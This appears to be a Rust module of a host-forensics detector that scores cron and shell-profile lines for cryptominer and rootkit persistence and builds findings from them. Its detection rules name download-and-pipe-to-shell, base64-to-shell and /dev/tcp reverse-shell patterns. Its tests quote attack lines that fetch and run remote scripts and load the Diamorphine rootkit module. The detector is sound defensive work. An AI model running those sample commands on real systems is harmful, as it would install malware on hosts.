//! Shared pieces of the footholds detectors: the accounts of the host (from its own `/etc/passwd`),
//! where a path sits (crontab, profile, history, ...), and the one scoring of shell text every
//! persistence detector uses, so a line rates the same wherever it persists.
//!
//! Severity comes from points: each signal adds points with a reason, and [`Score::severity`] maps the sum
//! (0 nothing, 1 low, 2–3 medium, 4–6 high, 7+ critical). A single weak signal stays low.

use minetrace_schemas::findings::{Finding, Role, Severity, Subject};
use minetrace_schemas::records::file::FileRecord;
use minetrace_schemas::records::package::PackageVerdict;
use minetrace_schemas::{escape_bytes, RawBytes};

use crate::detect::finding::{file_subject, persistence_subject, FindingExt};
use crate::detect::markers::{marker_counts, name_marker_matches, path_marker_matches};
use crate::detect::rules::Rule;
use crate::detect::Context;
use crate::indicators::Indicators;
use crate::indicators::{Kind, MarkerKind, PathClass};
use crate::model::{usr_twin, HostModel};
use crate::parse::basename;
use crate::parse::shell_line::{self, ShellLine};

/// Points and the reasons they were given.
#[derive(Debug, Clone, Default)]
pub struct Score {
    pub points: u32,
    pub reasons: Vec<String>,
    /// A family marker matched what persists.
    pub family: Option<String>,
    /// Programs the line runs that a family `path` or `name` marker names (as written): named as file
    /// subjects, and weighed against the package database by [`score_line`].
    pub marker_targets: Vec<Vec<u8>>,
}

impl Score {
    pub fn add(&mut self, points: u32, reason: impl Into<String>) {
        self.points += points;
        self.reasons.push(reason.into());
    }

    pub fn merge(&mut self, other: Score) {
        self.points += other.points;
        self.reasons.extend(other.reasons);
        if self.family.is_none() {
            self.family = other.family;
        }
        for t in other.marker_targets {
            if !self.marker_targets.contains(&t) {
                self.marker_targets.push(t);
            }
        }
    }

    pub fn severity(&self) -> Option<Severity> {
        match self.points {
            0 => None,
            1 => Some(Severity::Low),
            2..=3 => Some(Severity::Medium),
            4..=6 => Some(Severity::High),
            _ => Some(Severity::Critical),
        }
    }
}

/// Scores one piece of persisted shell text (a cron command, an `Exec*=` line, an rc or profile line).
/// History tampering and `LD_PRELOAD` are left to their own detectors.
pub fn score_shell(text: &[u8], iocs: &Indicators) -> (Score, ShellLine) {
    let s = shell_line::analyze(text);
    let mut score = Score::default();
    if s.download_to_shell {
        score.add(4, "downloads a script and pipes it into a shell");
    } else if s.download_then_exec {
        score.add(3, "downloads a file and runs it");
    }
    if s.decode_to_shell {
        score.add(4, "decodes base64 and pipes it into a shell");
    } else if s.base64_decode {
        score.add(2, "decodes base64");
    }
    if s.dev_tcp {
        score.add(
            4,
            "opens a /dev/tcp socket (reverse shell or curl-less download)",
        );
    }
    // A bare IP is weak alone: health checks and local APIs are reached by address too. Only a download
    // that is run makes the address worth more; an address a program listens on is not reached at all
    // (`listen_ips`).
    if !s.bare_ips.is_empty() {
        let ips = s.bare_ips.join(", ");
        if s.download_to_shell || s.download_then_exec {
            score.add(2, format!("runs what it downloads from bare IP {ips}"));
        } else if s.download {
            score.add(
                1,
                format!("fetches from bare IP {ips} (the response is not run)"),
            );
        } else {
            score.add(1, format!("reaches bare IP {ips}"));
        }
    }
    let paths = iocs.paths();
    if let Some(p) = s.temp_exec(paths).first() {
        score.add(
            3,
            format!("runs {} from a temporary directory", escape_bytes(p)),
        );
    }
    if let Some(p) = s.hidden_exec(paths).first() {
        score.add(1, format!("runs {} from a hidden path", escape_bytes(p)));
    }
    // `modprobe NAME` loads a module the system ships (systemd's modprobe@.service does it); loading a
    // module *file* (`insmod /path/x.ko`) is what rootkit installers do.
    for m in s
        .module_loads
        .iter()
        .filter(|m| m.contains(&b'/') || m.ends_with(b".ko"))
    {
        let odd = paths.is(PathClass::KitProne, m);
        score.add(
            if odd { 4 } else { 2 },
            format!("loads kernel module file {}", escape_bytes(m)),
        );
    }
    if !s.mention_only {
        let lossy = String::from_utf8_lossy(text);
        if let Some(flag) = iocs.find_in(Kind::MinerFlag, &lossy) {
            score.add(3, format!("miner option {flag:?}"));
        } else if let Some(name) = s
            .executed
            .iter()
            .chain(s.commands.iter())
            .map(|p| String::from_utf8_lossy(basename(p)).to_ascii_lowercase())
            .find(|n| iocs.contains(Kind::MinerName, n))
        {
            score.add(3, format!("runs a miner named {name}"));
        }
        if let Some(domain) = s
            .urls
            .iter()
            .find_map(|u| iocs.find_in(Kind::PoolDomain, &String::from_utf8_lossy(u)))
        {
            score.add(2, format!("reaches mining pool domain {domain}"));
        }
        // What the line runs, against `path` and `name` markers: every program a marker names is kept
        // (for subjects); the points count once.
        let mut first: Option<(&crate::indicators::FamilyMarker, Option<&[u8]>)> = None;
        for m in &iocs.family_markers {
            let hit = match m.kind {
                MarkerKind::Cron => lossy.contains(m.value.as_str()).then_some(None),
                // A weak marker (an ordinary word) counts only on a program in a drop place.
                MarkerKind::Path => s
                    .executed
                    .iter()
                    .find(|p| path_marker_matches(&m.value, p) && marker_counts(iocs, m, p))
                    .map(|p| Some(p.as_slice())),
                MarkerKind::Name => s
                    .executed
                    .iter()
                    .find(|p| {
                        name_marker_matches(&m.value, basename(p)) && marker_counts(iocs, m, p)
                    })
                    .map(|p| Some(p.as_slice())),
                _ => None,
            };
            let Some(target) = hit else {
                continue;
            };
            if let Some(t) = target {
                if !score.marker_targets.iter().any(|x| x.as_slice() == t) {
                    score.marker_targets.push(t.to_vec());
                }
            }
            if first.is_none() {
                first = Some((m, target));
            }
        }
        if let Some((m, target)) = first {
            let what = target
                .map(|t| format!(" (runs {})", escape_bytes(t)))
                .unwrap_or_default();
            score.add(
                MARKER_POINTS,
                format!("matches {} marker {} {}{what}", m.family, m.kind, m.value),
            );
            score.family = Some(m.family.clone());
        }
    }
    (score, s)
}

/// Points of a family marker on what a line runs.
pub const MARKER_POINTS: u32 = 4;

/// [`score_shell`] plus what the host's package database says about the programs a family marker named:
/// a program its package installed with a matching digest is not the family's (the marker's points and
/// family are withdrawn when every named program is such); one no package owns, or that differs from its
/// package's copy, is what a dropper leaves (+1, +2).
pub fn score_line(ctx: &Context, text: &[u8]) -> (Score, ShellLine) {
    let (mut score, s) = score_shell(text, ctx.iocs);
    if score.marker_targets.is_empty() {
        return (score, s);
    }
    let mut owned = 0;
    let mut unowned = false;
    let mut replaced = false;
    for t in &score.marker_targets {
        match ctx.model.package_check(t).map(|c| (c.verdict, c)) {
            Some((PackageVerdict::Match, c)) => {
                owned += 1;
                score.reasons.push(format!(
                    "{} is installed by package {} with a matching digest",
                    escape_bytes(t),
                    c.package.as_deref().unwrap_or("?")
                ));
            }
            Some((PackageVerdict::NotOwned, _)) => unowned = true,
            // Replaced only by an integrity check: an edited conffile is no replaced binary.
            Some((PackageVerdict::Mismatch, c)) if c.judges_integrity() => replaced = true,
            _ => {}
        }
    }
    let lossy = String::from_utf8_lossy(text);
    let cron_marker = ctx
        .iocs
        .family_markers
        .iter()
        .any(|m| m.kind == MarkerKind::Cron && lossy.contains(m.value.as_str()));
    if owned == score.marker_targets.len() && !cron_marker {
        // Every program the marker named is the package's own: the marker does not count.
        score.points = score.points.saturating_sub(MARKER_POINTS);
        score
            .reasons
            .push("so the family marker does not count".into());
        score.family = None;
        score.marker_targets.clear();
        return (score, s);
    }
    if replaced {
        score.add(
            2,
            "a program the marker names differs from its package's copy",
        );
    } else if unowned {
        score.add(1, "no package owns a program the marker names");
    }
    (score, s)
}

/// Adds the points of a persistence file whose own path is a family `path` marker
/// (`/etc/cron.d/perfclean`): every job line in it is the family's.
pub fn persistence_file_marker(iocs: &Indicators, file: &FileRecord, score: &mut Score) {
    if let Some(family) = family_of_path(iocs, file.path.as_bytes()) {
        score.add(
            MARKER_POINTS,
            format!(
                "{} is a known {family} persistence file",
                file.path.escaped()
            ),
        );
        score.family.get_or_insert(family);
    }
}

/// The family whose `path` marker names this file, if any.
pub fn family_of_path(iocs: &Indicators, path: &[u8]) -> Option<String> {
    iocs.family_markers
        .iter()
        .find(|m| m.kind == MarkerKind::Path && path_marker_matches(&m.value, path))
        .map(|m| m.family.clone())
}

use crate::model::accounts::Accounts;

/// An empty placeholder: a regular file of at most two bytes where a kit file would be (a "vaccine" against
/// reinfection, a rival's squat). It names a family's place, never that family's file.
pub fn is_placeholder(f: &FileRecord) -> bool {
    f.kind == minetrace_schemas::records::file::FileKind::Regular && f.size <= 2
}

/// The subject for an account by name, with its uid when known.
pub fn account_subject(accounts: &Accounts, name: &[u8]) -> Subject {
    Subject::Account {
        name: RawBytes::from(name),
        uid: accounts.by_name(name).map(|e| e.uid),
    }
}

/// Captured regular files whose path satisfies `pick`, with their bytes.
pub fn captured<'a>(
    model: &'a HostModel,
    pick: impl Fn(&[u8]) -> bool + 'a,
) -> impl Iterator<Item = (&'a FileRecord, &'a [u8])> + 'a {
    model
        .regular_files()
        .filter(move |f| pick(f.path.as_bytes()))
        .filter_map(move |f| Some((f, model.content(f)?)))
}

/// Evidence line describing a file: path, owner, mode, size, flags.
pub fn describe_file(f: &FileRecord) -> String {
    let mut flags = Vec::new();
    if f.immutable {
        flags.push("immutable");
    }
    if f.append_only {
        flags.push("append-only");
    }
    format!(
        "{} (uid {}, mode {:o}, {} bytes, mtime {}{}{})",
        f.path.escaped(),
        f.uid,
        f.mode & 0o7777,
        f.size,
        f.mtime.secs,
        if flags.is_empty() { "" } else { ", " },
        flags.join(", ")
    )
}

/// Evidence line quoting one line of a file.
pub fn quote_line(path: &RawBytes, line: u32, text: &[u8]) -> String {
    let mut t = escape_bytes(text);
    if t.len() > 400 {
        let mut cut = 400;
        while !t.is_char_boundary(cut) {
            cut -= 1;
        }
        t.truncate(cut);
        t.push_str("...");
    }
    format!("{}:{}: {}", path.escaped(), line, t)
}

/// A finding about one persisted line: `Persistence{path,line}` plus the file, the score's reasons as
/// evidence, and captured files it runs from temp or hidden places as further subjects.
pub fn line_finding(
    ctx: &Context,
    rule: &Rule,
    file: &FileRecord,
    line: u32,
    text: &[u8],
    score: &Score,
    shell: Option<&ShellLine>,
) -> Option<Finding> {
    let severity = score.severity()?;
    let mut f = crate::detect::finding::finding(rule, severity)
        .subject(persistence_subject(&file.path, line))
        .subject_as(file_subject(file), Role::Context)
        .evidence(quote_line(&file.path, line, text))
        .family(score.family.clone());
    for r in &score.reasons {
        f = f.evidence(r.clone());
    }
    f = f.evidence(format!("file: {}", describe_file(file)));
    if severity >= Severity::Medium {
        let mut named: Vec<&[u8]> = Vec::new();
        if let Some(s) = shell {
            let classes = ctx.iocs.paths();
            for p in s
                .temp_exec(classes)
                .into_iter()
                .chain(s.hidden_exec(classes))
            {
                if let Some(target) = ctx.model.file_aliased(p) {
                    if !named.contains(&target.path.as_bytes()) {
                        named.push(target.path.as_bytes());
                        // Named in the line's text: context (its own findings judge the file).
                        f = f.subject_as(file_subject(target), Role::Context);
                    }
                }
            }
        }
        // Programs a family marker names: the captured file or running executable, or the name as the
        // line writes it when the snapshot holds no record of it.
        for p in &score.marker_targets {
            let Some((subject, recorded)) = program_subject(ctx.model, p) else {
                continue;
            };
            let Subject::File { path, .. } = &subject else {
                continue;
            };
            if named.contains(&path.as_bytes()) {
                continue;
            }
            named.push(p);
            if !recorded {
                f = f.evidence(format!(
                    "{} is not in the snapshot's file records",
                    escape_bytes(p)
                ));
            }
            f = f.subject_as(subject, Role::Context);
        }
    }
    Some(f)
}

/// The file subject for a program a line names: its file record (merged-`/usr` aliases followed), else
/// the running executable recorded at that path, else the absolute path as written (with no hash).
/// The flag says whether the snapshot recorded it.
pub fn program_subject(model: &HostModel, path: &[u8]) -> Option<(Subject, bool)> {
    if let Some(f) = model.file_aliased(path) {
        return Some((file_subject(f), true));
    }
    let twin = usr_twin(path).filter(|_| model.usr_merged(path));
    if let Some(e) = model
        .executables
        .iter()
        .find(|e| e.path.as_bytes() == path || twin.as_deref() == Some(e.path.as_bytes()))
    {
        let subject = Subject::File {
            path: e.path.clone(),
            sha256: e.sha256.clone(),
        };
        return Some((subject, true));
    }
    path.starts_with(b"/").then(|| {
        let subject = Subject::File {
            path: RawBytes::from(path),
            sha256: None,
        };
        (subject, false)
    })
}

/// Extra points for a file locked against removal, given only when the content is already suspicious.
pub fn lock_points(file: &FileRecord, score: &mut Score) {
    if score.points > 0 && (file.immutable || file.append_only) {
        score.add(
            2,
            "the file is locked with chattr (immutable/append-only) against removal",
        );
    }
}

/// Files whose lines run or load something: every persistence location of the model
/// ([`crate::model::persistence::location`]), and the rest of the cron and spool directories.
pub fn is_run_by_line_path(path: &[u8]) -> bool {
    crate::model::persistence::location(path).is_some()
        || path.starts_with(b"/etc/cron")
        || path.starts_with(b"/var/spool/")
}

/// A file that is executable by mode, or starts like an ELF binary or a script.
pub fn looks_executable(model: &HostModel, f: &FileRecord) -> bool {
    if f.mode & 0o111 != 0 {
        return true;
    }
    model
        .content(f)
        .is_some_and(|b| b.starts_with(b"\x7fELF") || b.starts_with(b"#!"))
}

/// Shell history files ([`crate::model::is_shell_history`]).
pub use crate::model::is_shell_history as is_history_path;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scores() {
        let iocs = Indicators::builtin();
        let (s, _) = score_shell(
            b"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1",
            &iocs,
        );
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert_eq!(s.family.as_deref(), Some("Kinsing"));
        let (s, _) = score_shell(
            b"curl -fsS https://status.example.com/health >/dev/null",
            &iocs,
        );
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(
            b"pkill -f xmrig; rm -rf /tmp/.X25-unix; pkill kdevtmpfsi",
            &iocs,
        );
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(b"-/sbin/modprobe -abq %i", &iocs);
        assert_eq!(s.severity(), None, "{s:?}");
        let (s, _) = score_shell(b"insmod /tmp/.x/diamorphine.ko", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        let (s, _) = score_shell(b"~/.configrc/a/upd>/dev/null 2>&1", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert_eq!(s.family.as_deref(), Some("Outlaw"));
    }

    #[test]
    fn bare_ips_weigh_by_what_is_done_with_them() {
        let iocs = Indicators::builtin();
        // A health check fetched by address and thrown away: low at most.
        let (s, _) = score_shell(
            b"curl -fsS -m 5 http://127.0.0.1:8080/healthz >/dev/null || sudo systemctl restart api",
            &iocs,
        );
        assert_eq!(s.severity(), Some(Severity::Low), "{s:?}");
        // An address the program listens on is not reached.
        let (s, _) = score_shell(b"/opt/api/bin/api-server --listen 127.0.0.1:8080", &iocs);
        assert_eq!(s.severity(), None, "{s:?}");
        // A download from an address that is run: high.
        let (s, _) = score_shell(b"curl -fsSL http://127.66.3.1/cr.sh | sh", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert!(s
            .reasons
            .iter()
            .any(|r| r.contains("runs what it downloads")));
    }

    #[test]
    fn name_markers_match_names_with_digits_or_extensions() {
        assert!(name_marker_matches("dota3", b"dota3"));
        assert!(name_marker_matches("dota3", b"dota3.tar.gz"));
        assert!(name_marker_matches("kdevtmpfsi", b"kdevtmpfsi2"));
        assert!(name_marker_matches("Kinsing", b"kinsing.sh"));
        assert!(name_marker_matches(".diicot", b".diicot"));
        assert!(!name_marker_matches("dota3", b"dota3x"));
        assert!(!name_marker_matches("dota3", b"dota3."));
        assert!(!name_marker_matches("dota3", b"xdota3.tar.gz"));
        assert!(!name_marker_matches(
            "sysupdate",
            b"systemd-sysupdate.service"
        ));
        assert!(!name_marker_matches("", b"x"));
    }

    #[test]
    fn path_markers_follow_merged_usr() {
        assert!(path_marker_matches("/bin/sysdr", b"/usr/bin/sysdr"));
        assert!(path_marker_matches("/bin/sysdr", b"/bin/sysdr"));
        assert!(!path_marker_matches("/bin/sysdr", b"/usr/local/bin/sysdr"));
        assert!(path_marker_matches("/.configrc/", b"~/.configrc/a/upd"));
        let iocs = Indicators::builtin();
        let (s, _) = score_shell(b"/usr/bin/sysdr >/dev/null 2>&1", &iocs);
        assert!(s.severity() >= Some(Severity::High), "{s:?}");
        assert_eq!(s.family.as_deref(), Some("8220/PwnRig"));
        assert_eq!(s.marker_targets, vec![b"/usr/bin/sysdr".to_vec()]);
        // A copy that is run names its source too.
        let (s, _) = score_shell(
            b"cp -f -- /usr/bin/bprofr /tmp/dbused && /tmp/dbused -c",
            &iocs,
        );
        assert!(
            s.marker_targets.contains(&b"/usr/bin/bprofr".to_vec()),
            "{s:?}"
        );
        assert!(s.marker_targets.contains(&b"/tmp/dbused".to_vec()), "{s:?}");
        // Mentioned only (a cleanup line): nothing.
        let (s, _) = score_shell(b"rm -f /usr/bin/sysdr /tmp/dbused", &iocs);
        assert_eq!(s.severity(), None, "{s:?}");
    }
}
